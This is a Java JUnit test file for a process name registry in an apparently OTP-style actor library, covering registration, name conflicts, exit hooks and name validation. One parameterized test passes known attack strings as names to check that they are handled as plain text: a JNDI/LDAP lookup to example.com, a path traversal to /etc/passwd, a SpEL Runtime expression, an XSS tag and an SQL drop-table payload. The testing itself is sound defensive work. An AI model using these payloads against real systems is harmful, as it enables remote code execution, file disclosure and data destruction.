package io.triotp.process;

import java.util.List;
import java.util.Optional;
import java.util.concurrent.Future;
import java.util.concurrent.atomic.AtomicBoolean;

import io.triotp.testing.Conformance;
import io.triotp.testing.Gate;
import io.triotp.testing.LogProbe;
import io.triotp.test.ManualTime;
import io.triotp.testing.Probe;
import io.triotp.testing.Puppet;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatExceptionOfType;
import static org.assertj.core.api.Assertions.assertThatIllegalArgumentException;
import static org.assertj.core.api.Assertions.assertThatIllegalStateException;

class NameTests {

	private final Processes node = LocalNode.create(NodeOptions.defaults().time(new ManualTime()));

	@AfterEach
	void close() {
		this.node.close();
	}

	@Test
	void a_message_to_a_name_reaches_its_holder() {
		Puppet puppet = named("echo");
		this.node.send("echo", "hello");
		assertThat(puppet.received().await()).isEqualTo("hello");
		assertThat(this.node.whereis("echo")).contains(puppet.pid());
	}

	@Test
	void a_message_to_a_name_nobody_has_is_an_error() { // OTP P2
		assertThatExceptionOfType(NoSuchNameException.class).isThrownBy(() -> this.node.send("nobody", "hello"))
			.withMessageContaining("'nobody'")
			.satisfies((ex) -> assertThat(ex.name()).isEqualTo("nobody"));
	}

	@Test
	void a_name_has_at_most_one_holder() { // OTP P5
		Puppet holder = named("echo");
		assertThatExceptionOfType(NameTakenException.class).isThrownBy(() -> named("echo"))
			.satisfies((ex) -> assertThat(ex.holder()).isEqualTo(holder.pid()));
		Puppet other = Puppet.spawn(this.node);
		assertThatExceptionOfType(NameTakenException.class)
			.isThrownBy(() -> other.run((self) -> self.register("echo")));
		assertThat(this.node.view().processCount()).isEqualTo(2);
	}

	@Test
	void a_process_may_have_several_names_and_lose_them_one_by_one() {
		Puppet puppet = named("one");
		this.node.register("two", puppet.pid());
		this.node.register("three", puppet.pid());
		this.node.register("three", puppet.pid());
		assertThat(names(puppet)).containsExactly("one", "two", "three");
		this.node.unregister("two");
		assertThat(names(puppet)).containsExactly("one", "three");
		this.node.unregister("one");
		this.node.unregister("three");
		assertThat(names(puppet)).isEmpty();
		assertThatExceptionOfType(NoSuchNameException.class).isThrownBy(() -> this.node.unregister("one"));
	}

	@Test
	void a_dead_process_cannot_be_registered() { // OTP P5
		Puppet puppet = Puppet.spawn(this.node);
		this.node.kill(puppet.pid());
		assertThatIllegalStateException().isThrownBy(() -> this.node.register("late", puppet.pid()))
			.withMessageContaining("ended");
		assertThat(this.node.whereis("late")).isEmpty();
	}

	@Test
	@Conformance("LINK-20")
	void whoever_hears_of_a_death_finds_all_names_free() { // OTP P6
		Puppet witness = Puppet.spawn(this.node).trapping();
		Puppet dying = named("echo");
		this.node.register("alias", dying.pid());
		Probe<Object> found = new Probe<>();
		Pid watcher = this.node.spawn((self) -> {
			self.monitor(dying.pid());
			self.register("watcher");
			SystemMessage.Down down = (SystemMessage.Down) self.receive();
			self.register("echo");
			self.register("alias");
			found.tell(self.processes().view().info(down.pid()));
		});
		Probe.until(() -> this.node.whereis("watcher").isPresent());
		this.node.host().stop(dying.pid(), ExitReason.shutdown());
		assertThat(found.await()).isEqualTo(Optional.empty());
		assertThat(Probe.exitOf(this.node, watcher)).isEqualTo(ExitReason.normal());
		assertThat(witness.pid().isAlive()).isTrue();
	}

	@Test
	void a_process_found_by_name_and_killed_while_it_is_being_started_leaves_nothing() throws Throwable {
		AtomicBoolean over = new AtomicBoolean();
		Future<Integer> killing = Probe.async(() -> {
			int killed = 0;
			while (!over.get()) {
				Optional<Pid> victim = this.node.whereis("prey");
				victim.ifPresent(this.node::kill);
				killed += victim.isPresent() ? 1 : 0;
				Thread.yield();
			}
			return killed;
		});
		for (int i = 0; i < 20_000; i++) {
			Pid prey = named("prey").pid();
			this.node.kill(prey);
		}
		over.set(true);
		Probe.get(killing);
		assertThat(this.node.view().processCount()).isZero();
	}

	@Test
	void an_exit_hook_runs_before_anybody_is_told() {
		Probe<Object> order = new Probe<>();
		this.node.host().addExitHook((pid) -> order.tell("hook " + pid));
		Puppet witness = Puppet.spawn(this.node);
		Gate gate = new Gate();
		Pid dying = this.node.spawn((self) -> gate.pass());
		witness.run((self) -> self.monitor(dying));
		gate.open();
		witness.received().await();
		assertThat(order.rest()).containsExactly("hook " + dying);
	}

	@Test
	void an_exit_hook_that_throws_stops_no_exit() {
		this.node.host().addExitHook((pid) -> {
			throw new IllegalStateException("bad hook");
		});
		Puppet puppet = named("echo");
		this.node.host().stop(puppet.pid(), ExitReason.shutdown());
		assertThat(puppet.exit()).isEqualTo(ExitReason.shutdown());
		assertThat(this.node.view().info(puppet.pid())).isEmpty();
	}

	@Test
	void the_name_is_the_label_unless_there_is_one() {
		Puppet unlabelled = named("echo");
		Puppet labelled = Puppet.spawn(this.node, SpawnOptions.defaults().label("the echo").name("echo-2"));
		assertThat(this.node.view().info(unlabelled.pid()).orElseThrow().label()).contains("echo");
		assertThat(this.node.view().info(labelled.pid()).orElseThrow().label()).contains("the echo");
	}

	@ParameterizedTest
	@ValueSource(strings = { "", "   ", "two\nlines", "\u001b[31m", "right-to-left\u202e" })
	void a_name_that_would_spoil_a_log_is_refused(String name) {
		assertThatIllegalArgumentException().isThrownBy(() -> named(name)).withMessageContaining("name");
		assertThat(this.node.view().processCount()).isZero();
	}

	@ParameterizedTest
	@ValueSource(strings = { "../../etc/passwd", "${jndi:ldap://example.com/a}", "#{T(java.lang.Runtime)}", "{}",
			"%n%s", "<script>alert(1)</script>", "'; drop table orders; --" })
	void what_is_code_elsewhere_is_a_name_like_any_other(String name) {
		try (LogProbe log = new LogProbe("io.triotp.crash")) {
			Puppet puppet = named(name);
			assertThat(this.node.whereis(name)).contains(puppet.pid());
			puppet.tell((self) -> ExitReason.failure("planted"));
			assertThat(log.await().getFormattedMessage()).startsWith(name + " (" + puppet.pid() + ") crashed on ");
		}
	}

	@Test
	void a_name_has_at_most_255_characters() {
		assertThatIllegalArgumentException().isThrownBy(() -> named("x".repeat(256)));
		assertThat(named("x".repeat(255)).pid().isAlive()).isTrue();
	}

	private Puppet named(String name) {
		return Puppet.spawn(this.node, SpawnOptions.defaults().name(name));
	}

	private List<String> names(Puppet puppet) {
		return this.node.view().info(puppet.pid()).orElseThrow().names();
	}

}
